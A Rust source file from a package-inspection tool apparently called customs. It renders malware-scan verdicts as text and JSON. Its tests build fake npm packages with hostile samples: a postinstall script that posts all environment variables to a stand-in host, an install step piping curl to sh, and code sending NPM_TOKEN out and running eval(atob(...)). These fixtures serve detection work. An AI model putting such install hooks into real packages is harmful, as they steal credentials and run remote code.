//! What was found, for people and for programs.

use super::Inspected;
use super::beside::Beside;
use super::compared::{Compared, Followed};
use super::frame::Frames;
use super::grouped;
use super::odd;
use super::release::OfFile;
use crate::error::{Doing as _, Failure};
use crate::output::plain_json;
use customs_inspect::Tree;
use customs_model::{
    Capability, Digest, Finding, Inspection, Novelty, Severity, Standing, Zone, printable,
};
use customs_rules::RULE_SET_VERSION;
use serde::Serialize;
use std::collections::BTreeMap;
use std::fmt::Write as _;

/// Lines of what it can do and of what was not read.
const MANY: usize = 12;
/// Reasons for which releases were not compared, of many.
const REASONS: usize = 4;

/// For people.
pub(super) fn text(one: &Inspected) -> String {
    let mut out = String::new();
    let inspection = &one.inspection;
    let _ = writeln!(out, "{}: {}", one.name, words(one.verdict.standing));
    let _ = writeln!(
        out,
        "  {} files, {} bytes",
        inspection.files, inspection.bytes
    );
    let first = one.files.iter().find(|file| file.beside.is_some());
    if let Some(beside) = first.and_then(|file| file.beside.as_ref()) {
        let with = one.compared.as_ref().and_then(|c| c.with.first());
        let _ = writeln!(out, "  {}", of_beside(beside, with.map(String::as_str)));
    }
    for same in first.iter().flat_map(|file| &file.same).take(MANY) {
        let _ = writeln!(out, "  the same content: {same}");
    }
    if let Some(file) = first {
        beside_sources(&mut out, file);
    }
    match first {
        Some(file) => findings(&mut out, &file.verdict.findings, &file.tree),
        None => findings(&mut out, &one.verdict.findings, &one.tree),
    }
    if let Some(first) = first {
        for file in one.files.iter().filter(|file| !std::ptr::eq(*file, first)) {
            other_file(&mut out, first, file);
        }
    }
    let notes = one
        .verdict
        .findings
        .iter()
        .filter(|finding| finding.severity == Severity::Note)
        .count();
    odd::lines(&mut out, one);
    if notes > 0 {
        let noted = if notes == 1 { "note" } else { "notes" };
        let _ = writeln!(
            out,
            "\n  {notes} {noted} on what an honest release may do as well (--format json shows them)"
        );
    }
    if let Some(compared) = &one.compared {
        novelties(&mut out, compared);
    }
    capabilities(&mut out, inspection);
    if !one.verdict.not_checked.is_empty() {
        let _ = writeln!(out, "\n  not read:");
        for line in grouped::unread(&one.verdict.not_checked) {
            let _ = writeln!(out, "    {line}");
        }
    }
    out
}

/// What a file was compared with, in one line; and where it was judged by itself, the release
/// beside which it is told what is new.
fn of_beside(beside: &Beside, with: Option<&str>) -> String {
    match beside {
        Beside::Predecessor(input) => format!(
            "judged beside {} ({})",
            input.release.spoken(),
            printable(&input.file, 120)
        ),
        Beside::NotCompared(because) => {
            let because = printable(because, 200);
            match with {
                Some(with) => {
                    format!("judged by itself: {because}; what is new is told beside {with}")
                }
                None => format!("not compared with a release before it: {because}"),
            }
        }
    }
}

/// What of a wheel its source distribution does not explain.
fn beside_sources(out: &mut String, file: &OfFile) {
    for line in &file.phantoms {
        let _ = writeln!(out, "    {line}");
    }
}

/// Another file of the release: how it stands, and what is said of it and not of the first.
fn other_file(out: &mut String, first: &OfFile, file: &OfFile) {
    let _ = writeln!(out, "\n  {}: {}", file.input.file, words(file.standing));
    for same in file.same.iter().take(MANY) {
        let _ = writeln!(out, "    the same content: {same}");
    }
    if let Some(beside) = &file.beside {
        let _ = writeln!(out, "    {}", of_beside(beside, None));
    }
    beside_sources(out, file);
    for line in &file.differs {
        let _ = writeln!(out, "    not in {}: {line}", first.input.file);
    }
    let known = &first.verdict.findings;
    let own = file.verdict.findings.iter();
    let own: Vec<Finding> = own.filter(|f| !known.contains(f)).cloned().collect();
    findings(out, &own, &file.tree);
}

/// Findings that are more than a note, the worst first, each with its way through the code.
pub(crate) fn findings(out: &mut String, all: &[Finding], tree: &Tree) {
    let mut told: Vec<&Finding> = all
        .iter()
        .filter(|finding| finding.severity > Severity::Note)
        .collect();
    let mut frames = Frames::of(tree);
    told.sort_by_key(|finding| std::cmp::Reverse(finding.severity));
    for finding in told {
        let _ = writeln!(out, "\n  {}: {}", finding.rule, finding.message);
        // With a path, each line of the evidence is one of its hops.
        if finding.path.is_empty() {
            for line in &finding.evidence {
                let _ = writeln!(out, "    {line}");
            }
        }
        for hop in &finding.path {
            let _ = writeln!(out, "    {}: {}", hop.at, printable(&hop.what, 160));
            if let Some(frame) = frames.frame(&hop.at) {
                let _ = writeln!(out, "{frame}");
            }
        }
        let _ = writeln!(
            out,
            "    why this matters: customs explain {}",
            finding.rule
        );
    }
}

fn novelties(out: &mut String, compared: &Compared) {
    let delta = &compared.delta;
    if let Some(nearest) = compared.with.first() {
        let others = match compared.with.len() {
            1 => String::new(),
            count => format!(" and the {} before it", count - 1),
        };
        let _ = writeln!(
            out,
            "\n  compared with {nearest}{others}: {} files that run were added, {} changed, {} removed",
            delta.added, delta.changed, delta.removed
        );
        if delta.novelties.is_empty() {
            let _ = writeln!(out, "    nothing that it can do is new");
        }
        for line in lines(&delta.novelties, MANY) {
            let _ = writeln!(out, "    {line}");
        }
    }
    for followed in &compared.followed {
        let _ = writeln!(out, "    {}", of_dependency(followed));
    }
    for what in &compared.not_known {
        let _ = writeln!(out, "    not known: {}", printable(what, 200));
    }
}

/// Novelties, one line each, and how many more there are.
pub(crate) fn lines(novelties: &[Novelty], most: usize) -> Vec<String> {
    let mut lines: Vec<String> = novelties
        .iter()
        .take(most)
        .map(|novelty| {
            let at = novelty
                .at
                .as_ref()
                .map(|at| format!(" — {at}"))
                .unwrap_or_default();
            format!(
                "{} {}, {}{at}",
                novelty.kind.words(),
                printable(&novelty.what, 120),
                novelty.zone.words()
            )
        })
        .collect();
    if novelties.len() > most {
        lines.push(format!("and {} more", novelties.len() - most));
    }
    lines
}

/// A new dependency in one line.
pub(crate) fn of_dependency(followed: &Followed) -> String {
    let takes = followed
        .takes
        .as_ref()
        .map(|takes| format!(", which takes {takes}"))
        .unwrap_or_default();
    let unimported = if followed.unimported {
        ", named by no file"
    } else {
        ""
    };
    let standing = match followed.standing {
        Some(standing) => format!(": {}", words(standing)),
        None => String::new(),
    };
    let says = followed
        .says
        .as_ref()
        .map(|says| format!(" ({says})"))
        .unwrap_or_default();
    format!(
        "a new dependency: {} {}{takes}{unimported}{standing}{says}",
        printable(&followed.name, 120),
        printable(&followed.requirement, 80)
    )
}

/// Whether a new dependency of it is not clean.
fn brings_something(one: &Inspected) -> bool {
    let followed = one.compared.iter().flat_map(|compared| &compared.followed);
    followed
        .filter_map(|followed| followed.standing)
        .any(|standing| standing != Standing::Clean)
}

/// Many targets: how many stand how, and those that are not clean in full.
pub(super) fn summary(all: &[Inspected]) -> String {
    let mut out = String::new();
    let count = |standing: Standing| {
        all.iter()
            .filter(|one| one.verdict.standing == standing)
            .count()
    };
    for one in all {
        match one.verdict.standing {
            Standing::Clean if !brings_something(one) => {}
            Standing::Clean | Standing::Suspicious | Standing::Malicious => {
                out.push_str(&text(one));
                out.push('\n');
            }
            Standing::NotJudged => {
                let because = one.verdict.not_checked.first();
                let because = because.map(String::as_str).unwrap_or_default();
                let _ = writeln!(out, "{}: not judged: {because}\n", one.name);
            }
        }
    }
    let _ = writeln!(
        out,
        "{} read: {} clean, {} suspicious, {} malicious, {} not judged",
        all.len(),
        count(Standing::Clean),
        count(Standing::Suspicious),
        count(Standing::Malicious),
        count(Standing::NotJudged)
    );
    comparisons(&mut out, all);
    out
}

/// How many releases were compared with the one before them, and why the others were not.
fn comparisons(out: &mut String, all: &[Inspected]) {
    let mut compared = 0_usize;
    let mut alone: BTreeMap<&str, usize> = BTreeMap::new();
    let firsts = all
        .iter()
        .filter_map(|one| one.files.iter().find_map(|file| file.beside.as_ref()));
    for beside in firsts {
        match beside {
            Beside::Predecessor(_) => compared += 1,
            Beside::NotCompared(because) => *alone.entry(because).or_default() += 1,
        }
    }
    if compared == 0 && alone.is_empty() {
        return;
    }
    let _ = writeln!(out, "{compared} compared with the release before them");
    let mut alone: Vec<(&str, usize)> = alone.into_iter().collect();
    alone.sort_by_key(|(_, count)| std::cmp::Reverse(*count));
    for (because, count) in alone.iter().take(REASONS) {
        let because = printable(because, 200);
        let _ = writeln!(out, "{count} not compared: {because}");
    }
    let more: usize = alone.iter().skip(REASONS).map(|(_, count)| count).sum();
    if more > 0 {
        let _ = writeln!(out, "{more} not compared for other reasons");
    }
}

/// What the header of a library that is loaded says that it can do, in front of a bracket.
fn of_header(inspection: &Inspection, capability: &Capability) -> String {
    let path = capability.detail.as_deref().unwrap_or_default();
    let path = path.split(" or one of ").next().unwrap_or(path);
    let known = inspection
        .binaries
        .iter()
        .find(|binary| capability.name == "native.load" && binary.path == path);
    let Some(binary) = known else {
        return String::new();
    };
    let can: Vec<&str> = binary.abilities.iter().map(|can| can.words()).collect();
    match (&binary.untold, &can[..]) {
        (Some(because), []) => format!(": what it can do is not told, because {because}"),
        (None, []) => String::new(),
        (_, can) => format!(": it {}", can.join(", ")),
    }
}

fn capabilities(out: &mut String, inspection: &Inspection) {
    let unasked: Vec<&Capability> = inspection
        .capabilities
        .iter()
        .filter(|capability| capability.zone >= Zone::Folder)
        .collect();
    if unasked.is_empty() {
        return;
    }
    let _ = writeln!(out, "\n  what it does without being called:");
    for capability in unasked.iter().take(MANY) {
        let detail = capability
            .detail
            .as_deref()
            .map(|detail| {
                let header = of_header(inspection, capability);
                format!(" ({}{header})", printable(detail, 80))
            })
            .unwrap_or_default();
        let _ = writeln!(
            out,
            "    {}{detail}, {} — {}",
            capability.name,
            capability.zone.words(),
            capability.at
        );
    }
    if unasked.len() > MANY {
        let _ = writeln!(out, "    and {} more", unasked.len() - MANY);
    }
}

pub(crate) const fn words(standing: Standing) -> &'static str {
    match standing {
        Standing::Clean => "clean (no rule speaks; that is not a promise)",
        Standing::Suspicious => "suspicious",
        Standing::Malicious => "malicious",
        Standing::NotJudged => "not judged",
    }
}

/// For programs.
#[derive(Serialize)]
struct Report<'a> {
    schema: &'static str,
    /// The version of the rules; that of the engine stands in each inspection.
    rules: u32,
    targets: Vec<Target<'a>>,
}

#[derive(Serialize)]
struct Target<'a> {
    target: &'a str,
    /// The artifact that the verdict is about.
    #[serde(skip_serializing_if = "Option::is_none")]
    digest: Option<&'a Digest>,
    verdict: &'a customs_model::Verdict,
    inspection: &'a Inspection,
    /// The files that the verdict rests on, each with its digest and with the file of the
    /// release before it; none where one archive or folder was named.
    files: &'a [OfFile],
    #[serde(skip_serializing_if = "Option::is_none")]
    compared: Option<&'a Compared>,
}

pub(super) fn json(all: &[Inspected]) -> Result<String, Failure> {
    let targets = all
        .iter()
        .map(|one| Target {
            target: &one.name,
            digest: one.digest.as_ref(),
            verdict: &one.verdict,
            inspection: &one.inspection,
            files: &one.files,
            compared: one.compared.as_ref(),
        })
        .collect();
    let report = Report {
        schema: "customs.inspect/1",
        rules: RULE_SET_VERSION,
        targets,
    };
    let text = serde_json::to_string_pretty(&report).doing("write the report")?;
    Ok(plain_json(&text) + "\n")
}

#[cfg(test)]
mod tests {
    use super::*;
    use customs_inspect::{Content, Entry, Kind, inspect_tree};
    use customs_model::{Ability, BinaryFact, BinaryKind, Place};
    use customs_rules::{RuleSet, judge_code};
    use std::sync::Arc;

    fn inspected(files: &[(&str, &str)]) -> Inspected {
        let entry = |(path, text): &(&str, &str)| Entry {
            path: format!("package/{path}"),
            content: Content::Whole(text.as_bytes().into()),
            length: text.len() as u64,
            kind: Kind::Text,
            executable: false,
        };
        let tree = Tree {
            entries: files.iter().map(entry).collect(),
            ..Tree::default()
        };
        let inspection = inspect_tree(&tree);
        Inspected {
            name: "left-1.0.1.tgz".to_owned(),
            release: None,
            digest: None,
            verdict: judge_code(&inspection, &RuleSet::standard()),
            inspection: Arc::new(inspection),
            tree,
            compared: None,
            files: Vec::new(),
            is_folder: false,
        }
    }

    #[test]
    fn one_sentence_says_why_it_is_judged_by_itself_and_beside_what_news_are_told() {
        let alone = Beside::NotCompared("its line has no release before it".to_owned());
        assert_eq!(
            of_beside(&alone, Some("left@0.9.0")),
            "judged by itself: its line has no release before it; what is new is told beside left@0.9.0"
        );
        assert_eq!(
            of_beside(&alone, None),
            "not compared with a release before it: its line has no release before it"
        );
    }

    #[test]
    fn a_library_that_is_loaded_is_told_with_what_its_header_shows() {
        let can = Capability {
            name: "native.load".to_owned(),
            zone: Zone::Install,
            detail: Some("m.node".to_owned()),
            at: Place {
                file: "i.js".to_owned(),
                line: 1,
                column: 1,
                bytes: (0, 1),
            },
        };
        let binary = |path: &str| BinaryFact {
            path: path.to_owned(),
            kind: BinaryKind::Elf,
            architecture: "x86_64".to_owned(),
            size: 1,
            abilities: [Ability::Network, Ability::Process].into(),
            imports: Vec::new(),
            imports_digest: Digest::sha256(b""),
            libraries: Vec::new(),
            zone: Zone::Install,
            init: false,
            packed: false,
            untold: None,
        };
        let line = |binaries: Vec<BinaryFact>| {
            let mut out = String::new();
            let inspection = Inspection {
                capabilities: vec![can.clone()],
                binaries,
                ..Inspection::default()
            };
            capabilities(&mut out, &inspection);
            out
        };
        assert!(line(vec![binary("m.node")]).contains(
            "native.load (m.node: it opens the network, starts processes), when it is installed"
        ));
        assert!(line(vec![binary("other.node")]).contains("native.load (m.node), when"));
    }

    #[test]
    fn a_proof_is_told_with_the_way_from_source_to_sink() {
        let one = inspected(&[
            (
                "package.json",
                r#"{"scripts": {"postinstall": "node setup.js"}}"#,
            ),
            (
                "setup.js",
                "const all = process.env;\nfetch('https://collect.invalid/v1', {\n  method: 'POST',\n  body: JSON.stringify(all),\n});\n",
            ),
        ]);
        insta::assert_snapshot!(text(&one));
    }

    #[test]
    fn no_file_name_and_no_text_of_a_package_steers_who_reads_a_report() {
        const ODD: &str = "\u{1b}]0:x\u{7}\u{9b}31m\u{202e}\u{2066}\u{2028}\u{200b}\u{e0041}\r";
        let script = format!("a{ODD}.js");
        let manifest = serde_json::json!({
            "name": ODD,
            "scripts": {"postinstall": format!("node '{script}'"), "install": format!("curl https://a.invalid/{ODD} | sh")},
            "dependencies": {ODD: ODD},
        });
        let code = format!(
            "/* {ODD} */ const t = process.env[`{ODD}`] + process.env.NPM_TOKEN;\nfetch(`https://a.invalid/{ODD}?` + t); eval(atob(`{ODD}`)); require(`./{ODD}`);"
        );
        let one = inspected(&[
            ("package.json", &manifest.to_string()),
            (&script, &code),
            ("index.js", &code),
            (&format!("{ODD}.png"), "not a picture"),
        ]);
        let all = [one];
        let said = [text(&all[0]), summary(&all), json(&all).unwrap()];
        for said in said {
            let plain = crate::output::plain_text(&said);
            assert_eq!(said, plain);
        }
        assert!(!all[0].verdict.findings.is_empty());
    }

    #[test]
    fn what_could_not_be_read_is_told_and_no_text_of_a_stranger_steers_the_terminal() {
        let one = inspected(&[
            ("package.json", r#"{"main": "a.js"}"#),
            ("a.js", "let \u{1b}[31m = ;"),
        ]);
        let text = text(&one);
        assert!(!text.contains('\u{1b}'));
        insta::assert_snapshot!(text);
    }
}
